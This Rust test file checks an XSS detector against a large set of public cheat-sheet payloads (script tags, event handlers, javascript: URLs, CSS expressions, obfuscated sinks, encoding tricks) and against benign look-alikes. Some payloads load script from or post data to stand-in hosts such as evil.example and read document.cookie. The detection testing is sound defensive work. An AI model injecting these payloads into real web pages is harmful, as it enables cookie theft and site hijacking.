//! The detector on concrete attacks (many from public cheat sheets: OWASP's XSS filter evasion
//! sheet, PortSwigger's, Brute Logic's, html5sec.org; and OWASP CRS's regression tests) and on
//! benign look-alikes. The corpora themselves are measured by `examples/xss_corpus.rs`.

#![allow(clippy::unwrap_used)]

use super::detect;

/// Asserts that every input is detected, with the reason given.
fn attacks(cases: &[(&str, &str)]) {
    for (input, reason) in cases {
        match detect(input.as_bytes()) {
            Some(d) => assert_eq!(d.reason, *reason, "{input:?}: {:?}", d.matched),
            None => panic!("missed: {input:?}"),
        }
    }
}

/// Asserts that no input is detected.
fn benign(cases: &[&str]) {
    for input in cases {
        if let Some(d) = detect(input.as_bytes()) {
            panic!("false positive on {input:?}: {} {:?}", d.reason, d.matched);
        }
    }
}

#[test]
fn script_tags() {
    attacks(&[
        ("<script>alert(1)</script>", "xss:script-tag"),
        (
            "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
            "xss:script-tag",
        ),
        (
            "\"><script>alert(document.cookie)</script>",
            "xss:script-tag",
        ),
        (
            "<scr<script>ipt>alert(1)</scr<script>ipt>",
            "xss:script-tag",
        ),
        ("<<SCRIPT>alert(\"XSS\");//<</SCRIPT>", "xss:script-tag"),
        ("<script/src=//evil.example/x.js>", "xss:script-tag"),
        ("<script\x0c>alert(1)</script>", "xss:script-tag"),
        ("<scr\0ipt>alert(1)</script>", "xss:script-tag"),
        (
            "<script\\x20type=\"text/javascript\">javascript:alert(1);</script>",
            "xss:script-tag",
        ),
        (
            "\"><script+src=\"https://x.example/cb?callback=f\"></script>",
            "xss:script-tag",
        ),
        (
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"data:,alert(1)\" />",
            "xss:script-tag",
        ),
        ("<svg><script>alert(1)</script></svg>", "xss:script-tag"),
        ("</script><script>alert(1)</script>", "xss:script-tag"),
        ("< script>alert(1)</script>", "xss:script-tag"),
        ("<XSS>", "xss:dangerous-tag"),
    ]);
}

#[test]
fn event_handlers_in_tags() {
    attacks(&[
        ("<img src=x onerror=alert(1)>", "xss:event-handler"),
        ("<svg/onload=alert(1)>", "xss:event-handler"),
        ("<svg\nonload=alert(1)>", "xss:event-handler"),
        ("<body onload=alert('XSS')>", "xss:event-handler"),
        ("<x onxxx=1", "xss:event-handler"),
        ("<x 1='1'onxxx=1", "xss:event-handler"),
        ("<x </onxxx=1", "xss:event-handler"),
        ("<X OnXxx=1", "xss:event-handler"),
        ("<img src=x one\0rror=alert(1)>", "xss:event-handler"),
        ("<img/src=\"x\"/onerror=alert(1)>", "xss:event-handler"),
        ("<img src=x/onerror=alert(1)>", "xss:event-handler"),
        ("<a\"//' onclick=alert()//>x</a>", "xss:event-handler"),
        (
            "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
            "xss:js-sink",
        ),
        ("<x onbeforehellfreezes=alerw(1)>", "xss:event-handler"),
        ("<img src=x oneonerrorrror=alert(1)>", "xss:event-handler"),
        ("<http://onxxx=1/", "xss:event-handler"),
        ("<details open ontoggle=alert(1)>", "xss:event-handler"),
        ("<svgonload=alert(1)>", "xss:event-handler"),
        ("<input onfocus=alert(1) autofocus>", "xss:event-handler"),
        ("<marquee onstart=alert(1)>", "xss:event-handler"),
    ]);
}

#[test]
fn dangerous_tags_and_attributes() {
    attacks(&[
        (
            "<iframe src=\"https://evil.example\"></iframe>",
            "xss:dangerous-tag",
        ),
        (
            "<iframe width=1 height=1 src=//evil.example>",
            "xss:dangerous-tag",
        ),
        (
            "<iframe srcdoc=\"<img src=1 onerror=alert(1)>\"></iframe>",
            "xss:dangerous-tag",
        ),
        ("<OBJECT data =", "xss:dangerous-tag"),
        ("<embed src=\"deuce.swf\">", "xss:dangerous-tag"),
        ("<applet code=\"deuce.class\">", "xss:dangerous-tag"),
        ("<BASE dsfds HREF / =", "xss:dangerous-tag"),
        ("<v:vmlframe src=\"foo.com/sup.fml\"/>", "xss:dangerous-tag"),
        ("<:vmlframe src=", "xss:dangerous-tag"),
        ("<?import implementation =", "xss:dangerous-tag"),
        (
            "<FRAMESET><FRAME SRC=\"https://x.example/\"></FRAMESET>",
            "xss:dangerous-tag",
        ),
        (
            "<LAYER SRC=\"http://x.example/scriptlet.html\"></LAYER>",
            "xss:dangerous-tag",
        ),
        (
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "xss:meta",
        ),
        ("<meta charset=\"UTF-7\" />", "xss:meta"),
        ("<link / asdf href  /= ", "xss:link"),
        (
            "<form action=\"https://evil.example/steal\"><input name=pw>",
            "xss:form-action",
        ),
        (
            "<button formaction=javascript:alert(1)>x</button>",
            "xss:form-action",
        ),
        (
            "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/>",
            "xss:svg-animate",
        ),
        ("<f o r m", "xss:spaced-tag"),
        (
            "<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>",
            "xss:data-binding",
        ),
        (
            "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://x\"/></x>",
            "xss:xml-injection",
        ),
        (
            "<!DOCTYPE r [ <!ENTITY % x SYSTEM \"http://evil.example/\">%x;]>",
            "xss:xml-entity",
        ),
        ("<!--#exec cmd=\"/bin/ls\"-->", "xss:ssi"),
        (
            "<html xmlns:t=\"urn:schemas-microsoft-com:time\"><t:set attributeName=\"innerHTML\" to=\"x\">",
            "xss:ie-behavior",
        ),
        (
            "x\"srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;",
            "xss:attribute-injection",
        ),
    ]);
}

#[test]
fn script_urls_through_obfuscation() {
    attacks(&[
        ("<a href=\"javascript:alert(1)\">x</a>", "xss:js-url"),
        ("<IMG SRC=JaVaScRiPt:alert('XSS')>", "xss:js-url"),
        (
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
            "xss:js-url",
        ),
        ("<IMG SRC=\"jav\tascript:alert('XSS');\">", "xss:js-url"),
        ("<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">", "xss:js-url"),
        (
            "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
            "xss:js-url",
        ),
        (
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "xss:js-url",
        ),
        (
            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>",
            "xss:js-url",
        ),
        ("<a href=\"&#x6a;avascript:alert(1)\">x</a>", "xss:js-url"),
        (
            "<a href=\"ja&Tab;vascript&colon;alert(1)\">x</a>",
            "xss:js-url",
        ),
        ("<IMG SRC='vbscript:msgbox(\"XSS\")'>", "xss:js-url"),
        (
            "<video poster=javascript:alert(10)//></video>",
            "xss:js-url",
        ),
        (
            "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
            "xss:js-url",
        ),
        (
            "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
            "xss:js-url",
        ),
        (
            "<?xml-stylesheet href=\"javascript:alert(17)\"?><root/>",
            "xss:js-url",
        ),
        (
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "xss:dangerous-tag",
        ),
        (
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "xss:data-url",
        ),
        (
            "<a href=\"data:application/x-x509-user-cert;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "xss:script-tag",
        ),
        (
            "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
            "xss:dangerous-tag",
        ),
        (
            "<a href=\"data:image/svg+xml;base64,PHN2Zz4=\">x</a>",
            "xss:data-url",
        ),
        (
            "url=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
            "xss:event-handler",
        ),
        // shown as an image, the SVG is judged by what it carries
        (
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            "xss:event-handler",
        ),
        // in text: an injection into an existing URL attribute or a script string
        ("javascript:alert(1)", "xss:js-url"),
        (
            "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
            "xss:event-handler",
        ),
        (
            "javascript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
            "xss:js-url",
        ),
        ("ja\tvascript: ", "xss:js-url"),
        ("v\nb\ts\nc\nr\ti\tp\nt::", "xss:js-url"),
        ("?url=javascript:alert(1)\"", "xss:js-url"),
        ("{ \"javascript:a=:,\":\"foo\" }", "xss:js-url"),
        ("\\x6aavascript:alert(1)", "xss:js-url"),
        (" data: , <x>", "xss:data-url"),
        ("data:text/html,<script>alert(1)</script>", "xss:script-tag"),
    ]);
}

#[test]
fn css() {
    attacks(&[
        (
            "<DIV STYLE=\"width: expression(alert('XSS'));\">",
            "xss:css",
        ),
        (
            "<div style=\"background:url(javascript:alert(1))\">",
            "xss:css",
        ),
        ("<DIV STYLE=\"behavior: url(xss.htc);\">", "xss:css"),
        (
            "</b style=\"expr/**/ession(alert('vulnerable'))\">",
            "xss:css",
        ),
        (
            "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
            "xss:css",
        ),
        (
            "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
            "xss:css",
        ),
        (
            "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
            "xss:css",
        ),
        ("<STYLE>@\\\\", "xss:css"),
        (
            "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE>",
            "xss:css",
        ),
        (
            "style=color:red;background:url(javascript:alert(1))",
            "xss:css",
        ),
        ("x=x:url(javascript", "xss:css"),
        (
            "style = background : url ( javascript : alert(1) )",
            "xss:css",
        ),
        ("style=xss:expression(alert(1))", "xss:css"),
        (
            "-moz-binding:url(http://example.com/xss.xml#xss)",
            "xss:css",
        ),
    ]);
}

#[test]
fn injected_attributes_outside_tags() {
    attacks(&[
        ("\" onmouseover=alert(1)//", "xss:event-handler"),
        ("' onfocus=alert(1) autofocus '", "xss:event-handler"),
        (
            "\"onmouseover='prompt(document.cookie)'\"",
            "xss:event-handler",
        ),
        ("  onload= ", "xss:event-handler"),
        ("  onabcdefgh= ", "xss:event-handler"),
        (
            "<\"onwebkitplaybacktargetavailabilitychanged=",
            "xss:event-handler",
        ),
        (
            "test;onfocus=eval(atob('YWxlcnQoMSk='))",
            "xss:event-handler",
        ),
        (
            "Mozilla/5.0 (compatible; onload=alert(document.domain))",
            "xss:event-handler",
        ),
        ("'formaction=", "xss:form-action"),
    ]);
}

#[test]
fn script_context_injections() {
    attacks(&[
        ("';alert(String.fromCharCode(88,83,83))//", "xss:js-sink"),
        ("'-alert(1)-'", "xss:js-sink"),
        ("\\'-alert(1)//", "xss:js-sink"),
        ("\";alert(1)//", "xss:js-sink"),
        ("48e71;alert(1)//503466e3", "xss:js-sink"),
        ("alert`1`", "xss:js-sink"),
        ("alert&lpar;1&rpar;", "xss:js-sink"),
        ("alert&#x28;1&#x29", "xss:js-sink"),
        ("(alert)(1)", "xss:js-sink"),
        ("(0,alert)(1)", "xss:js-sink"),
        ("a=alert,a(1)", "xss:js-sink"),
        ("[1].find(alert)", "xss:js-sink"),
        ("al\\u0065rt(1)", "xss:js-sink"),
        ("alert/**/(1)", "xss:js-sink"),
        ("setTimeout(name, 1)", "xss:js-sink"),
        ("eval('2 + 2')", "xss:js-sink"),
        ("alert()", "xss:js-sink"),
        ("x;eval(name)//", "xss:js-sink"),
        ("window.alert()", "xss:dom-access"),
        ("(0,window).alert(1)", "xss:dom-access"),
        (
            "new ActiveXObject('htmlfile').parentWindow.alert(2)",
            "xss:dom-access",
        ),
        ("f.contentWindow.document.cookie", "xss:dom-access"),
        ("';top.prompt(1)//", "xss:dom-access"),
        ("new Function()", "xss:js-sink"),
        ("Function('alert(1)')()", "xss:js-sink"),
        ("self[\"alert\"](1)", "xss:js-obfuscation"),
        ("x\";setTimeout(name, 1)//", "xss:js-sink"),
        ("import('//evil.example/x.js')", "xss:js-sink"),
        ("top[\"al\"+\"ert\"](1)", "xss:js-obfuscation"),
        ("top[/al/.source+/ert/.source](1)", "xss:js-obfuscation"),
        ("top['al\\145rt'](1)", "xss:js-obfuscation"),
        ("top[8680439..toString(30)](1)", "xss:js-obfuscation"),
        ("self[/*foo*/\"alert\"](\"xss\")", "xss:js-obfuscation"),
        ("(document)[\"cookie\"]", "xss:js-obfuscation"),
        (
            "[][\"constructor\"][\"constructor\"](\"alert(1)\")()",
            "xss:js-obfuscation",
        ),
        ("(![]+[])[+!+[]]", "xss:js-obfuscation"),
        ("+!![]", "xss:js-obfuscation"),
        ("document.cookie", "xss:dom-access"),
        ("document /*foo*/ .     cookie", "xss:dom-access"),
        ("window.location", "xss:dom-access"),
        ("...(document.domain)...", "xss:dom-access"),
        (
            "document.querySelector(\"p\").textContent=\"XSS\"",
            "xss:dom-access",
        ),
        ("el.innerHTML=location.hash", "xss:dom-write"),
        ("[].sort.call`${alert}1337`", "xss:js-template"),
        ("Reflect.sort.call``", "xss:js-template"),
        (
            "{{constructor.constructor('alert(1)')()}}",
            "xss:template-injection",
        ),
        (
            "x {{$on.constructor('alert(1)')()}} y",
            "xss:template-injection",
        ),
        (
            "[].constructor.constructor('alert(1)')()",
            "xss:js-obfuscation",
        ),
    ]);
}

#[test]
fn look_alikes_and_encodings() {
    attacks(&[
        ("＜script＞alert(1)＜/script＞", "xss:js-sink"),
        ("＜script src=//evil.example/x.js＞", "xss:script-tag"),
        (
            "%uff1cscript%u0020%uff1ealert(1)%uff1c/script%uff1e",
            "xss:script-tag",
        ),
        ("\u{FE64}svg onload=alert(1)\u{FE65}", "xss:event-handler"),
        ("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "xss:js-sink"),
        ("+ADw-script src=//evil.example/x.js+AD4-", "xss:script-tag"),
        ("\u{bc}script\u{be}x", "xss:script-tag"),
        ("\u{43c}script\u{43e}x", "xss:script-tag"),
        ("ｊａｖａｓｃｒｉｐｔ：ａｌｅｒｔ（１）", "xss:js-url"),
        (
            "{\"bio\":\"\\u003cimg src=x onerror=f()\\u003e\"}",
            "xss:event-handler",
        ),
    ]);
}

#[test]
fn nested_markup() {
    attacks(&[
        // inside attribute values: the input may land in a different context
        (
            "<a title=\"<img src=x onerror=alert(1)>\">",
            "xss:event-handler",
        ),
        (
            "<a probe=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></a>",
            "xss:script-tag",
        ),
        (
            "<!--<img src=\"--><img src=x onerror=alert(37)//\">",
            "xss:event-handler",
        ),
        (
            "<comment><img src=\"</comment><img src=x onerror=alert(38)//\">",
            "xss:event-handler",
        ),
        (
            "<svg><![CDATA[><image xlink:href=\"]]><img src=xx:x onerror=alert(2)//\"></svg>",
            "xss:event-handler",
        ),
        (
            "<style><img src=\"</style><img src=x onerror=alert(40)//\">",
            "xss:event-handler",
        ),
        (
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "xss:script-tag",
        ),
    ]);
}

#[test]
fn rich_text_passes() {
    benign(&[
        "<b>bold</b> and <i>italic</i> and <u>underlined</u>",
        "<p>First paragraph.</p><p>Second paragraph.</p>",
        "<a href=\"https://example.com/page?id=1&amp;lang=en\" target=\"_blank\" rel=\"noopener\">Read</a>",
        "<a href=\"mailto:support@example.com\">mail</a> <a href=\"tel:+15551234567\">call</a>",
        "<img src=\"https://example.com/cat.jpg\" alt=\"\">",
        "<img src=\"/uploads/diagram.svg\" alt=\"Diagram\" style=\"max-width: 100%; height: auto;\">",
        "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ\" alt=\"pixel\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\" alt=\"icon\">",
        "<ul><li>One</li><li>Two</li></ul><ol start=\"3\"><li>Three</li></ol>",
        "<span style=\"color: #ff0000; font-family: Arial, sans-serif;\">red</span>",
        "<div style=\"background: url(https://example.com/bg.png) no-repeat\">box</div>",
        "<table border=\"1\" style=\"border-collapse: collapse\"><tr><td>A</td></tr></table>",
        "<blockquote>quote</blockquote><pre><code>let x = a &lt; b;</code></pre>",
        "<a title=\"JavaScript: the good parts\" href=\"https://example.com/b\">book</a>",
        "<video controls src=\"https://example.com/a.mp4\" poster=\"https://example.com/p.jpg\"></video>",
        "<p class=\"MsoNormal\"><span lang=\"EN-US\">Pasted from Word</span></p>",
        "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><note><to>Tove</to></note>",
        "The HTML <iframe> element represents a nested browsing context.",
        "<iframe width=\"560\" height=\"315\" title=\"player\"></iframe> without its src",
        "<a href=\"https://example.com/search?q=<script>\">a search link, URL-decoded</a>",
    ]);
}

#[test]
fn prose_and_data_pass() {
    benign(&[
        "O'Reilly",
        "don't stop believing",
        "a < b",
        "x > 5 and y < 10, so 1 < 2 < 3",
        "I <3 NY <3 <3",
        ">_< :-) ;-) <<< back | read more >>>",
        "Use the -> arrow to go next and <- to go back.",
        "Press <Enter> to continue; replace <your-name> with yours",
        "If x < 3 then y > 7, otherwise y = 0.",
        "Please confirm (by Friday) whether you can attend.",
        "Set an alert(s) for price drops.",
        "red alert 2 download",
        "JavaScript: The Good Parts",
        "Use the data: URI scheme for small images.",
        "In JavaScript, document.getElementById returns an element.",
        "Call eval only if you really must",
        "Use alert() sparingly; the eval(code) function is slow, call setTimeout() instead",
        "If you confirm() a dialog, the prompt(message) returns",
        "The onload event fires when the page has loaded.",
        "online banking; onset of symptoms; only once",
        "/docs/javascript-manual/document.cookie",
        "/get/eval(",
        "document.pdf and window.open are words here",
        "self.name = name",
        "stack.top[i] = value; parent.children[0]",
        "function greet(name) { return \"Hello \" + name; }",
        "for (let i = 0; i < n; i++) { sum += a[i]; }",
        "console.log(\"debug\", value);",
        "let v = get(\"/a/b\").eval(&acl); expr.eval(ctx)",
        "fn confirm(input: &[u8], end: usize) -> bool { x }",
        "enum What { Function(usize) } What::Function(i)",
        "m(Builder::new().ext(16, vec![])); frames[1..]",
        "[![](https://img.shields.io/crates/v/x.svg)](https://crates.io/crates/x)",
        "- Update repository links to new location [camino-rs/camino](https://github.com/x).",
        "impl<L: Link> LinkedList<L> { if precedence < base { self[bit] = content[idx..]; } }",
        "content = &content[BOM.len()..]; /// their parent [`Command`].",
        "// `self.call` is properly paired; we use `Uint8Array.prototype.set.call`, which",
        "/// The static `String.fromCharCode()` method returns a string",
        "value: Value::Expression(\"1 + 1\".to_string()); if opts.constructor().is_some() {}",
        "pub const WLDP_HOST_JAVASCRIPT: windows_sys::core::GUID = GUID::from_u128(0x5629f0d5);",
        "self.common_state.process_alert(alert)?;",
        "match self.document.events.get(*self.pos) { Some(&self[self.len() - 1]) }",
        "    OneMinusSrcColor = 1,",
        "IO is disabled. Call `enable_io` on the runtime; `setTimeout(0)` is clamped",
        "if confirm(*ptr) { alert(&format!(\"Hello, {}!\", name)); }",
        "Alert(1) Confirm(2) Document.Cookie Window.Location TOP['x']",
        "if let Some(l) = &self.location { self.location(path) }",
        "Log types: `ALERT`, `FLOW`; checks whose `match.event_type` is ``alert``",
        "{\"name\":\"John\",\"tags\":[\"a\",\"b\"],\"price\":{\"lt\":100}}",
        "SELECT name FROM users WHERE age > 21 ORDER BY name;",
        "select the best option and update your order",
        "5$ - 10$",
        "1=1 is true",
        "Mary-Jane O'Connor-Smith",
        "john.doe+news@example.co.uk",
        "https://example.com/search?q=shoes&sort=price_asc&onSale=true",
        "550e8400-e29b-41d4-a716-446655440000",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yayBzaW5jZSB5ZWFycyBvbiBDUlMuIEh1bQo/onafe=",
        "bt_signature=MIIGSAIBAzCCBgwGCSqGSIb3DQEHAaCCBf0EggX5MIIF9TCCBfEGCSqonefgh=i",
        "  onab= ",
        "  onthisisaverylongwordthathasmorethanfiftycharactersss= ",
        "½ cup sugar, ¼ cup butter, ¾ cup flour",
        "de_matten & sitzbez\u{c3}\u{bc}ge > fu\u{df}matten_mt",
        "абвгдеёжзийклмнопрстуфхцчшщъыэюя",
        "+ADw- in a base64 blob",
        "<!-- a comment --> and -->",
        "style=color:red;background:white",
        "style=background:url(http://example.com/x)",
        "2024-01-15T10:30:00Z, $19.99, 100% < 120%",
    ]);
}

#[test]
fn evidence_names_the_tokens() {
    let d = detect(b"<img src=x onerror=alert(1)>").unwrap();
    assert_eq!(d.matched, ["<", "img", "onerror"]);
    let d = detect(b"<a href=\"javascript:alert(1)\">").unwrap();
    assert_eq!(d.matched, ["href", "javascript:"]);
    let d = detect(b"';alert(1)//").unwrap();
    assert_eq!(d.matched, ["alert", "("]);
    let long = format!("<img src=x on{}=1>", "a".repeat(45));
    let d = detect(long.as_bytes()).unwrap();
    assert!(d.matched.iter().all(|t| t.len() <= super::TOKEN_MAX));
}

#[test]
fn nesting_is_bounded() {
    // markup inside attribute values, many levels deep: read again only a few levels
    let mut s = String::from("x");
    for _ in 0..200 {
        s = format!(
            "<a title=\"{}\">",
            s.replace('&', "&amp;").replace('"', "&quot;")
        );
    }
    let _ = detect(s.as_bytes());
    let deep = format!("{}<script>", "<a title='".repeat(1000));
    assert!(detect(deep.as_bytes()).is_some());
}

#[test]
fn adversarial_shapes_stay_linear() {
    // many openers that each could scan to the end: bounded look-arounds keep this fast
    let inputs = [
        "<a title=\"".repeat(5000),
        "<style>".repeat(5000),
        "<!--".repeat(5000),
        "/*".repeat(10000) + "alert(1)",
        " ".repeat(20000) + "(",
        "a.".repeat(10000),
        "[[[[".repeat(5000),
        "{{".repeat(10000),
        "&#".repeat(10000),
        "on".repeat(10000) + "=",
        "javascript".repeat(2000),
        "+AD".repeat(5000),
        "%u".repeat(5000),
    ];
    let start = std::time::Instant::now();
    for s in &inputs {
        let _ = detect(s.as_bytes());
    }
    // generous for slow CI machines; quadratic behaviour would take many seconds
    assert!(start.elapsed().as_secs() < 5, "{:?}", start.elapsed());
}

mod properties {
    use super::detect;
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn never_panics(input in proptest::collection::vec(any::<u8>(), 0..512)) {
            let _ = detect(&input);
        }

        #[test]
        fn markup_alphabet_never_panics(input in "[<>/\"'=a-z &#;:()`\\\\\\-\\[\\]{}!+.]{0,200}") {
            let _ = detect(input.as_bytes());
        }

        #[test]
        fn attack_survives_surrounding_text(pre in "[a-zA-Z ,.]{0,40}", post in "[a-zA-Z ,.]{0,40}") {
            let s = format!("{pre}<img src=x onerror=alert(1)>{post}");
            prop_assert!(detect(s.as_bytes()).is_some());
        }

        #[test]
        fn plain_words_pass(words in proptest::collection::vec("[a-z]{1,12}", 0..30)) {
            let s = words.join(" ");
            prop_assert!(detect(s.as_bytes()).is_none(), "{}", s);
        }
    }
}
